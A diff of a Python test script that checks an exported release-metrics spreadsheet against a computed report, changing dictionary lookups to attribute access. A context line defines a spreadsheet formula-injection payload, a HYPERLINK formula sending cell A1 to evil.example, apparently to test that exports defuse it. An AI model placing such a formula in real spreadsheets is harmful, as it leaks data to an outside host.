@@ -38,17 +38,17 @@ from relman_desktop.services.base import Ctx  # noqa: E402
 TODAY = dt.datetime(2026, 11, 27, 9, 0, tzinfo=dt.UTC)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 SUMMARY = {  # summary row label: how to read the report's value
-    "Release success rate": lambda r: r["release_success_rate"],
-    "Production deployments": lambda r: r["deployment_frequency"]["count"],
-    "Deployments per week": lambda r: r["deployment_frequency"]["per_week"],
-    "Deployment frequency (DORA bucket)": lambda r: r["deployment_frequency"]["bucket"],
-    "Change failure rate": lambda r: r["change_failure_rate"],
-    "MTTR, mean": lambda r: r["mttr_hours"]["mean"],
-    "MTTR, median": lambda r: r["mttr_hours"]["median"],
-    "Lead time for changes, median": lambda r: r["lead_time_hours"]["median"],
-    "On-time delivery": lambda r: r["on_time_delivery"],
-    "Approval cycle time, median": lambda r: r["approval_cycle_hours"]["median"],
-    "Data-quality gaps": lambda r: len(r["data_quality"]),
+    "Release success rate": lambda r: r.release_success_rate,
+    "Production deployments": lambda r: r.deployment_frequency.count,
+    "Deployments per week": lambda r: r.deployment_frequency.per_week,
+    "Deployment frequency (DORA bucket)": lambda r: r.deployment_frequency.bucket,
+    "Change failure rate": lambda r: r.change_failure_rate,
+    "MTTR, mean": lambda r: r.mttr_hours.mean,
+    "MTTR, median": lambda r: r.mttr_hours.median,
+    "Lead time for changes, median": lambda r: r.lead_time_hours.median,
+    "On-time delivery": lambda r: r.on_time_delivery,
+    "Approval cycle time, median": lambda r: r.approval_cycle_hours.median,
+    "Data-quality gaps": lambda r: len(r.data_quality),
 }
 SERIES = {  # sheet: the report's series key for each column from D on (None: not in the report)
     "Release success": ["releases_deployed", None, "release_success_rate"],
@@ -103,19 +103,17 @@ def compare(path: Path, report: dict[str, Any]) -> tuple[int, list[str]]:
             wrong.append(f"Summary {label}: {got!r} ≠ {expected!r}")
     for title, keys in SERIES.items():
         ws = wb[title]
-        for r, point in enumerate(report["series"], 2):
-            if ws.cell(r, 1).value != point["period"]:
-                wrong.append(
-                    f"{title} row {r}: period {ws.cell(r, 1).value!r} ≠ {point['period']!r}"
-                )
+        for r, point in enumerate(report.series, 2):
+            if ws.cell(r, 1).value != point.period:
+                wrong.append(f"{title} row {r}: period {ws.cell(r, 1).value!r} ≠ {point.period!r}")
                 continue
             for c, key in enumerate(keys, 4):
                 if key is None:
                     continue
                 got = ws.cell(r, c).value
                 checked += 1
-                if not same(got, point[key]):
-                    wrong.append(f"{title} {point['period']} {key}: {got!r} ≠ {point[key]!r}")
+                if not same(got, getattr(point, key)):
+                    wrong.append(f"{title} {point.period} {key}: {got!r} ≠ {getattr(point, key)!r}")
     changes = wb["Changes"]
     for r in range(2, changes.max_row + 1):
         if changes.cell(r, 2).value == EVIL:
